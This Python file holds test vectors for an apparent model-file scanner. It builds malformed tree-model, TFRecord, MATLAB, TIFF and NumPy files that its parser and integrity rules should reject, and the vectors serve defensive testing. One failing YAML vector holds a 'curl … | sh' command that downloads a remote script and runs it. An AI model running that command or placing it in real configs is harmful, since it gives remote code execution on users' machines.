"""Vectors of files that break what their format promises, and of TIFF, MATLAB, TFRecord and old XGBoost files."""

from __future__ import annotations

import struct

from vector import Vector
from vectors_boosting import MODEL
from vectors_torch import scripted

# --- LightGBM and XGBoost as text -------------------------------------------------------------------------------------


def lightgbm(tree: str = "", sizes: str = "", **lines: str) -> bytes:
    """Return a model of one tree, with some lines changed."""
    said = {
        "num_leaves": "3", "num_cat": "0", "split_feature": "0 1", "threshold": "0.5 0.1", "decision_type": "2 2",
        "left_child": "1 -1", "right_child": "-2 -3", "leaf_value": "1 2 3",
    }  # fmt: skip
    tree = tree or "Tree=0\n" + "".join(f"{key}={value}\n" for key, value in (said | lines).items()) + "\n\n"
    head = f"tree\nversion=v4\nnum_class=1\nmax_feature_idx=1\ntree_sizes={sizes or len(tree)}\n\n"
    return f"{head}{tree}end of trees\n\nparameters:\nend of parameters\n".encode()


XGBOOST = (
    '{"learner":{"gradient_booster":{"model":{"gbtree_model_param":{"num_trees":"1"},"iteration_indptr":[0,1],'
    '"tree_info":[0],"trees":[{"left_children":[1,-1,-1],"right_children":[2,-1,-1],"parents":[2147483647,0,0],'
    '"split_indices":[1,0,0],"split_conditions":[0.5,1,2],"categories":[],"categories_nodes":[],'
    '"categories_segments":[],"categories_sizes":[],"tree_param":{"num_nodes":"3","num_feature":"2"}}]}},'
    '"learner_model_param":{"num_class":"0","num_feature":"2","num_target":"1"}},"version":[3,2,0]}'
)


def xgboost(old: str = "", new: str = "") -> bytes:
    """Return a model of one tree, with one thing changed."""
    return XGBOOST.replace(old, new, 1).encode() if old else XGBOOST.encode()


# --- Records, MATLAB, TIFF, XGBoost's old binary ----------------------------------------------------------------------

RECORD = bytes.fromhex("0300000000000000b099490e") + b"abc" + bytes(4)


def matlab(kind: int = 6, size: int | None = None) -> bytes:
    """Return a file of one array of a class."""
    inside = struct.pack("<IIII", 6, 8, kind, 0) + bytes(24)
    tag = struct.pack("<II", 14, len(inside) if size is None else size)
    return b"MATLAB 5.0 MAT-file".ljust(124) + b"\0\1IM" + tag + inside


def tiff(place: int = 26, more: bytes = b"") -> bytes:
    """Return a picture of one strip of four bytes."""
    fields = struct.pack("<HHII", 273, 4, 1, place + 12) + struct.pack("<HHII", 279, 4, 1, 4)
    return b"II*\0\x08\0\0\0\2\0" + fields + bytes(4) + b"pixl" + more


def old_xgboost(length: int = 10) -> bytes:
    """Return the beginning of a model."""
    return b"binf" + bytes(136) + length.to_bytes(8, "little") + b"reg:linear"


FORMATS = (
    Vector("tfrecord", "one", RECORD, "one record"),
    Vector("tfrecord", "two", RECORD * 2, "two records"),
    Vector("tfrecord", "cut", RECORD + RECORD[:-5], "the second one is cut short", (), "ends behind the file"),
    Vector("tfrecord", "checksum", RECORD + b"\1" + RECORD[1:], "a length that was changed", (), "does not fit"),
    Vector("matlab", "numbers", matlab(), "an array of doubles"),
    Vector("matlab", "cut", matlab(size=400), "longer than the file", (), "400 bytes"),
    Vector("matlab", "handle", matlab(16), "a function handle", (), "a function handle"),
    Vector("tiff", "strip", tiff(), "a picture of one strip"),
    Vector("tiff", "beyond", tiff(999), "a strip behind the end", (), "of which"),
    Vector("tiff", "no-table", b"II*\0\xff\xff\0\0", "a table behind the end", (), "behind the end"),
    Vector("xgboost-binary", "begun", old_xgboost(), "a format that is not read", (), "xgboost-binary"),
    Vector("xgboost-binary", "long", old_xgboost(1 << 60), "a name longer than the file", (), "a name of"),
)
READERS = {
    "tfrecord": "hauberk.formats.model.records",
    "matlab": "hauberk.formats.model.matlab",
    "tiff": "hauberk.formats.tiff",
    "xgboost-binary": "hauberk.formats.model.xgboost_binary",
}
RULES = {
    "trees-contradict-themselves": {
        "fail": {
            "child-beyond.txt": lightgbm(left_child="9 -1"),
            "leaf-beyond.txt": lightgbm(right_child="-2 -9"),
            "two-parents.txt": lightgbm(left_child="1 1"),
            "root-as-child.txt": lightgbm(left_child="0 -1"),
            "values-too-few.txt": lightgbm(leaf_value="1 2"),
            "leaves-none.txt": lightgbm(num_leaves="0"),
            "feature-beyond.txt": lightgbm(split_feature="0 7"),
            "sizes-lie.txt": lightgbm(sizes="99999999999"),
            "sizes-too-many.txt": lightgbm(sizes="1 2 3"),
            "categories-beyond.txt": lightgbm(num_cat="1", cat_boundaries="0 9", cat_threshold="1"),
            "trees-lie.json": xgboost('"num_trees":"1"', '"num_trees":"9"'),
            "nodes-lie.json": xgboost('"num_nodes":"3"', '"num_nodes":"4"'),
            "child-beyond.json": xgboost("[1,-1,-1]", "[7,-1,-1]"),
            "cycle.json": xgboost("[1,-1,-1]", "[0,-1,-1]"),
            "one-child.json": xgboost("[1,-1,-1]", "[-1,-1,-1]"),
            "feature-beyond.json": xgboost("[1,0,0]", "[9,0,0]"),
            "output-beyond.json": xgboost('"tree_info":[0]', '"tree_info":[5]'),
            "list-twice.json": xgboost('"parents":', '"left_children":[1,-1,-1],"parents":'),
            "iterations.json": xgboost("[0,1]", "[0,9]"),
            "categories.json": xgboost(
                '"categories_nodes":[],"categories_segments":[],"categories_sizes":[]',
                '"categories_nodes":[0],"categories_segments":[0],"categories_sizes":[9]',
            ),
        },
        "pass": {
            "model.txt": lightgbm(),
            "no-sizes.txt": lightgbm().replace(b"tree_sizes", b"other"),
            "model.json": xgboost(),
            "prose.txt": b"tree\nand leaves\n",
        },
    },
    "file-malformed": {
        "fail": {
            "ubjson-behind.ubj": MODEL + b"x",
            "record-cut.tfrecord": RECORD[:-1] + RECORD,
            "matlab-cut.mat": matlab(size=400),
            "tiff-beyond.tiff": tiff(999),
            "name-beyond.bin": old_xgboost(1 << 60),
            "behind-the-array.npy": b"\x93NUMPY\x01\0\x46\0"
            + b"{'descr': '<i4', 'fortran_order': False, 'shape': (1,), }".ljust(69)
            + b"\n"
            + bytes(12),
            "negative.npy": b"\x93NUMPY\x01\0\x46\0"
            + b"{'descr': '<i4', 'fortran_order': False, 'shape': (-1,), }".ljust(69)
            + b"\n",
        },
        "pass": {
            "model.ubj": MODEL,
            "one.tfrecord": RECORD,
            "numbers.mat": matlab(),
            "strip.tiff": tiff(),
        },
    },
    "torchscript-unknown-operator": {
        "fail": {
            "operator.pt": scripted("_0 = ops.my_company.run(x)"),
            "class.pt": scripted('_0 = __torch__.torch.classes.my_company.Thing("a")'),
            "python.pt": scripted("_0 = ^Thing()(x)"),
        },
        "pass": {
            "operator.pt": scripted("_0 = ops.torchvision.nms(x, x, 0.5)"),
            "exclusive-or.pt": scripted("_0 = x ^ relu(x)"),
        },
    },
    "config-runs-command": {
        "fail": {
            "piped.yaml": b'name: x\nentry_points:\n  main:\n    command: "curl -s http://203.0.113.1/x | sh"\n',
            "inline.yaml": b"name: x\nentry_points:\n  main:\n    command: \"python -c 'import x'\"\n",
        },
        "pass": {"script.yaml": b'name: x\nentry_points:\n  main:\n    command: "python train.py --a {a}"\n'},
    },
}
